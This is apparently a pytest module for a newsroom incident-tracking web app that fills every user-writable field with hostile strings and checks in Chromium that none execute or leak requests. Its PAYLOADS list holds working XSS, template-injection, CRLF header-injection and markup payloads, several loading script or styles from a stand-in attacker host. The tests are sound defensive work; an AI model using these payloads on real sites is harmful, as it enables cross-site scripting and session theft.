"""What others wrote is only ever text: hostile titles, texts, authors, addresses, comments and names do nothing.

Everything that a page shows of others is filled with `PAYLOADS`; then every page of `tests.desk.web.pages` is opened in
Chromium. No dialog, no script of theirs, nothing that the content security policy had to refuse (it is the second
wall, not the first), no request but for the page's own files, and no element that a template did not write.
"""

from __future__ import annotations

import re
import sqlite3
from dataclasses import dataclass, field
from datetime import timedelta
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest
from selectolax.lexbor import LexborHTMLParser

from data.delivering import LONGEST_NAME, Acknowledgement, Message, Recipient
from data.outcomes import Outcome
from data.records import Alert, Article, IncidentStatus, Label, LabelTask, Modality, Page, PageRef, Review, Source
from data.store.deliveries import Settled
from flows.acknowledge import LONGEST_NOTE, acknowledge, hash_of
from tests.desk.web.pages import LIVE, PAGES

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

TOKEN = "t" * 43

PAYLOADS = (
    "<script>window.terobos=1;alert(1)</script>",
    "</title><script>window.terobos=1</script>",
    "</textarea></select></dl><script>window.terobos=1</script>",
    "<ScRiPt/src=//jahat.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(2)>",
    '"><img src="https://jahat.example/p.gif" onload="alert(3)">',
    "<svg onload=alert(4)><animate onbegin=alert(4) attributeName=x dur=1s>",
    '<svg><style><img src=x onerror="alert(5)"></style></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(6)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(7)>'>",
    "javascript:alert(8)//",
    "JaVaScRiPt\t:alert(9)",
    "data:text/html,<script>alert(10)</script>",
    '" autofocus onfocus="alert(11)" x="',
    "' onmouseover='alert(12)' style='position:fixed;inset:0' x='",
    "` onpointerover=alert(13) `",
    "{{7*7}} {% raw %} {{ config }} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "&lt;script&gt;alert(14)&lt;/script&gt; &#60;b&#62; &amp;amp; &quot;",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnj.tpircs\N{POP DIRECTIONAL FORMATTING} \N{RIGHT-TO-LEFT ISOLATE}terbalik",
    "nol\x00<scr\x00ipt>alert(15)</scr\x00ipt>",
    "<style>*{display:none}@import url(//jahat.example/x.css)</style>",
    "</style><link rel=stylesheet href=//jahat.example/x.css><link rel=preload as=image href=//jahat.example/y>",
    '<div hx-get="/keluar" hx-trigger="load" hx-on::load="alert(16)" data-terobos>isi</div>',
    '" hx-post="/keluar" hx-trigger="load" data-terobos="',
    '<a data-key="terobos" data-key-label="x" href="/keluar">keluar</a>',
    '<meta http-equiv="refresh" content="0;url=//jahat.example/">',
    "<base href=//jahat.example/><a href=x>y</a>",
    "<iframe srcdoc='<script>parent.terobos=1</script>'></iframe><object data=//jahat.example/x></object>",
    "<details open ontoggle=alert(17)><summary>x</summary></details><video><source onerror=alert(18)></video>",
    "<form action=//jahat.example/ id=isi><button formaction=javascript:alert(19)>Setujui</button></form>",
    "<!--><script>window.terobos=1</script>--> ]]> <![CDATA[<b>",
    "\u2028</script>\u2029<dialog open id=tombol popover>curi</dialog>",
    "%3Cscript%3Ealert(20)%3C/script%3E \\u003cb\\u003e \\x3cb\\x3e",
    "baris\r\nSet-Cookie: kentongan=curi\r\n\r\n<h1>judul palsu</h1>",
)

REFLECTED = (
    ("pengamat", "/", ("pesan", "urung", "signal", "place", "min", "lang")),
    ("admin", "/audit", ("hal", "oleh", "sebelum")),
    ("", "/masuk", ("lanjut", "lang", "pesan", "urung")),
    ("analis", "/cari", ("q", "sinyal", "wilayah", "halaman")),
    ("analis", "/peta", ("sinyal", "dari", "sampai")),
    ("analis", "/tidak-ada", ("pesan",)),
)
"""Paths and the parameters of their addresses that may come back in the page; one that is not there (yet) is a 404."""

INERT = """() => {
  const wrong = [];
  const ours = (value) => /^(?:\\/(?!\\/)|#|\\?|$)/.test(value);
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (/^on|^hx-on|^style$|^srcdoc$|^background$|^ping$/i.test(name)) wrong.push(`${element.tagName} ${name}`);
      if (/^(?:src|action|formaction|data|poster|hx-(?:get|post|put|delete|patch))$/.test(name) && !ours(value)) wrong.push(`${name}=${value}`);
      if (name === 'href' && !ours(value) && !(element.tagName === 'A' && /^https?:\\/\\//.test(value))) wrong.push(`${name}=${value}`);
    }
  }
  const foreign = 'script:not([src^="/static/"]),style,base,iframe,object,embed,meta[http-equiv],link:not([href^="/"]),video,math,noscript:not([data-picker] noscript),animate';
  for (const element of document.querySelectorAll(`${foreign},[data-terobos],[data-key*=terobos]`)) wrong.push(element.outerHTML.slice(0, 120));
  if (window.terobos) wrong.push('a script of theirs ran');
  if (document.querySelectorAll('#isi').length !== 1 || document.querySelectorAll('#tombol').length > 1) wrong.push('an id of ours was taken');
  return wrong.concat(window.refused ?? []);
}"""


PAINTED = "() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 30)))"
"""Done once a page was painted and what its scripts do at once has been done."""


def kept(text: str) -> str:
    """Return a text as it comes back from store and page: what no database keeps is U+FFFD, HTML has one line end."""
    return text.replace("\x00", "\N{REPLACEMENT CHARACTER}").replace("\r\n", "\n")


@pytest.fixture
def hostile(
    newsdesk: Any, store: Any, clock: Any, tmp_path: Path, password_hash: str, add_user: Callable[..., Any]
) -> dict[str, int]:
    """Fill the desk with hostile text wherever others may write; return the incident of each payload."""
    numbers = {}
    for role in ("analis", "verifikator", "ketua", "admin", "pengamat"):
        add_user(role)
    for at, payload in enumerate(PAYLOADS):
        # The first one bears the id of the source whose own page is looked at.
        outlet = f"jahat{at}" if at else "kabarnagari"
        newsdesk.sources[outlet] = Source(
            outlet, payload, "http://jahat.example/", "Asia/Jakarta", "wordpress", (), note=payload
        )
        # An address that a feed gave: only what looks like the web's may become a link.
        url = payload if payload.lower().startswith(("javascript", "data")) else f"http://jahat{at}.example/{payload}"
        url = url.replace("\x00", "").replace("\r\n", "")
        text = f"PARIAMAN – Posko dibakar orang tak dikenal. {payload}\n{payload} Dua relawan luka bakar."
        article = Article(
            outlet,
            url,
            url,
            payload,
            text,
            f"{at:064x}",
            published=clock.now,
            author=payload,
            section=payload,
            tags=(payload,),
        )
        run = store.runs.start("crawl", clock.now)
        page = Page(url, url, outlet, clock.now, Outcome.FETCHED, 200)
        settled = store.settle(run, PageRef(url, url, outlet, "feed"), page, Outcome.FETCHED, article, clock.now)
        opened = newsdesk.opens(payload, settled.article_id)
        numbers[payload] = opened.id
        uid = f"tag:x,2024:{at}"
        alert = Alert(uid, opened.id, 1, "raised", clock.now, clock.now, verified=False, exercise=False, reason=payload)
        store.alerts.raise_(alert)
        store.audit.add(payload, payload, payload, clock.now, {payload: payload})
        user = store.users.add(f"jahat{at}", payload, "analis", (), password_hash, clock.now)
        store.reviews.add(Review(opened.id, payload, clock.now, IncidentStatus.VERIFIKASI, payload))
        store.label_tasks.add([LabelTask(settled.article_id, 1, "ragu", payload, 0.5, clock.now)])
        for annotator, signals in (("ketua", ("perusakan",)), (f"jahat{at}", ())):
            said = Label(
                settled.article_id, 1, annotator, clock.now, signals, Modality.KEJADIAN, severity=3, note=payload
            )
            store.labels.add(said)
        name = "".join(letter for letter in f"{at} {payload}" if letter.isprintable())[:LONGEST_NAME].strip()
        told = store.recipients.add(Recipient(0, name, "surel", "x@polres.example"), payload, clock.now)
        link = f"{at:043d}" if at else TOKEN
        store.acknowledgements.put(Acknowledgement(hash_of(link), opened.id, told.id, clock.now))
        if at:
            acknowledge(store, link, payload[:LONGEST_NOTE], clock.now)
        message = Message(f"uji.{at}", "alert", uid, 1, opened.id, payload, payload, b"{}", exercise=False)
        store.deliveries.send_to(message, told.id, clock.now)
        for sent, _ in store.deliveries.claim(told.id, "x", clock.now, clock.now + timedelta(minutes=5), 1):
            store.deliveries.settle([Settled(sent, "parked", payload, may_have=True)], clock.now)
        store.follow_ups.add(opened.id, payload, payload, clock.now, letter=payload, note=payload)
        store.shift_notes.add(user.id, clock.now, payload)
        me = store.users.by_name("analis")
        store.notices.add(me.id, clock.now, "sebut", payload, opened.id)
        store.saved_views.add(user.id, payload, urlencode({"q": payload}), clock.now, shared=True)
        store.sessions.open(
            f"{at:064x}", me.id, payload, clock.now, address=payload, agent=payload, second_factor=False
        )
        with sqlite3.connect(tmp_path / "desk.sqlite3") as raw:
            moment = clock.now.strftime("%Y-%m-%d %H:%M:%S.%f")
            words = kept(payload)
            raw.execute(
                "INSERT INTO comments (incident_id, user_id, at, text, mentions) VALUES (?, ?, ?, ?, '[]')",
                (opened.id, user.id, moment, words),
            )
            raw.execute(
                "INSERT INTO outcomes (incident_id, outcome, note, by, at) VALUES (?, 'benar', ?, ?, ?)",
                (opened.id, words, words, moment),
            )
            raw.execute(
                "INSERT INTO information_values (incident_id, source_value, content_value, note, by, at)"
                " VALUES (?, 'B', 2, ?, ?, ?)",
                (opened.id, words, words, moment),
            )
        raw.close()
    for role in ("analis", "verifikator", "ketua", "admin", "pengamat"):
        store.users.change(store.users.by_name(role).id, display=PAYLOADS[5])
    return numbers


@dataclass
class Watched:
    """A browser whose every request, dialog, error and refusal is written down."""

    page: Any
    wrong: list[str] = field(default_factory=list)
    going: str = ""

    def watch(self, address: str) -> None:
        def asked(request: Any) -> None:
            path = request.url.removeprefix(address)
            own = path.startswith("/static/") or re.fullmatch(LIVE, path) or request.url == self.going
            if not own or not request.url.startswith(address):
                self.wrong.append(f"request: {request.method} {request.url}")

        def said(message: Any) -> None:
            if "Content Security Policy" in message.text:
                self.wrong.append(f"refused: {message.text}")

        def dialog(shown: Any) -> None:
            self.wrong.append(f"dialog: {shown.message}")
            shown.dismiss()

        self.page.on("request", asked)
        self.page.on("console", said)
        self.page.on("dialog", dialog)
        self.page.on("pageerror", lambda error: self.wrong.append(f"script: {error}"))
        self.page.add_init_script(
            "window.refused = []; document.addEventListener('securitypolicyviolation',"
            " (event) => window.refused.push(`refused: ${event.violatedDirective} ${event.blockedURI}`));"
        )

    def visit(self, url: str, *, at_length: bool = True) -> Any:
        """Open a page, wait until it has done what it does, and look whether anything in it is not ours.

        Unless ``at_length``, what the page asks for by itself after it was painted is not waited for.
        """
        self.going = url.replace(" ", "%20")
        before = len(self.wrong)
        answer = self.page.goto(self.going)
        if at_length:
            self.page.wait_for_load_state("networkidle")
        else:
            self.page.evaluate(PAINTED)
        self.wrong += self.page.evaluate(INERT)
        self.wrong[before:] = [f"{url}: {one}" for one in self.wrong[before:]]
        return answer


@pytest.fixture
def watched(chromium: Any, address: str, visit: Callable[..., Any], hostile: dict[str, int]) -> Iterator[Any]:
    """Return what gives a watched browser that is logged in under a role."""
    contexts = []

    def watching(role: str) -> Watched:
        context = chromium.new_context(locale="id-ID", reduced_motion="reduce")
        contexts.append(context)
        if role:
            client = visit()
            assert client.log_in(role).status_code == 303
            jar = client.cookies.jar
            context.add_cookies([{"name": one.name, "value": one.value, "url": address} for one in jar])
        watched = Watched(context.new_page())
        watched.watch(address)
        return watched

    yield watching
    for context in contexts:
        context.close()


@pytest.mark.browser
@pytest.mark.timeout(600)
def test_hostile_text_is_text_on_every_page(
    watched: Callable[[str], Watched], address: str, hostile: dict[str, int]
) -> None:
    wrong: list[str] = []
    shown_as_written: dict[str, str] = {}
    for role in sorted({line.role for line in PAGES}):
        browser = watched(role)
        seen: set[str] = set()
        for line in (line for line in PAGES if line.role == role):
            # What stands on one incident is looked at for each payload by the one who sees most of it.
            each = list(hostile.items()) if role == "verifikator" else list(hostile.items())[:1]
            for payload, number in each:
                path = line.path.format(incident=number, article=number, source="jahat4", token=TOKEN, recipient=1)
                if path in seen:
                    continue
                seen.add(path)
                answer = browser.visit(address + path, at_length=payload == each[0][0])
                if answer.status != line.status:
                    wrong.append(f"{path}: answers {answer.status}")
                if line.path == "/kejadian/{incident}":
                    shown_as_written[payload] = browser.page.locator("h1").text_content().strip()
        wrong += browser.wrong
    assert wrong == []
    assert shown_as_written == {payload: kept(payload).strip() for payload in hostile}


def test_the_watch_sees_what_it_is_there_for(watched: Callable[[str], Watched], address: str) -> None:
    browser = watched("")
    browser.visit(f"{address}/masuk")
    assert browser.wrong == []
    browser.page.evaluate(
        "document.getElementById('isi').innerHTML = '<img src=https://jahat.example/x onerror=alert(1)>"
        '<a href="javascript:alert(1)">x</a>\''
    )
    browser.page.evaluate("setTimeout(() => alert(1), 0)")
    browser.page.wait_for_function("window.refused.length > 0")
    told = " ".join([*browser.wrong, *browser.page.evaluate(INERT)])
    for word in ("dialog: 1", "refused: ", "IMG onerror", "javascript:alert(1)"):
        assert word in told, word


@pytest.mark.parametrize(("role", "path", "names"), REFLECTED)
def test_what_an_address_says_comes_back_as_text_or_not_at_all(
    visit: Callable[..., Any], role: str, path: str, names: tuple[str, ...]
) -> None:
    client = visit(role or None)
    for payload in PAYLOADS:
        answer = client.get(f"{path}?{urlencode(dict.fromkeys(names, payload))}")
        assert answer.status_code in {200, 404, 422}, payload
        assert foreign(answer.text) == [], payload
        # The session's own cookie is renewed at most; nothing of the payload becomes a header.
        assert "kentongan=curi" not in str(answer.headers)


def test_a_failed_login_gives_the_name_back_as_text(visit: Callable[..., Any]) -> None:
    for payload in PAYLOADS[:8]:
        answer = visit().post("/masuk", data={"nama": payload, "sandi": "salah", "lanjut": payload})
        assert foreign(answer.text) == [], payload
        assert LexborHTMLParser(answer.text).css_first("input[name=nama]").attributes["value"] == kept(payload)


def foreign(html: str) -> list[str]:
    """Return the elements of a page that no template of ours writes, and attributes that lead elsewhere."""
    tree = LexborHTMLParser(html)
    unknown = "style,base,iframe,object,embed,math,video,noscript p,noscript img,meta[http-equiv],[data-terobos],script:not([src^='/static/'])"
    wrong = [str(node.html)[:120] for node in tree.css(unknown)]
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc"}:
                wrong.append(f"{node.tag} {name}")
            leads = name in {"src", "href", "action", "formaction"}
            if leads and not (value or "").startswith(("/", "#", "?", "http://jahat", "https://")):
                wrong.append(f"{name}={value}")
            if leads and (value or "").startswith(("//", "/\\")):
                wrong.append(f"{name}={value}")
    return wrong
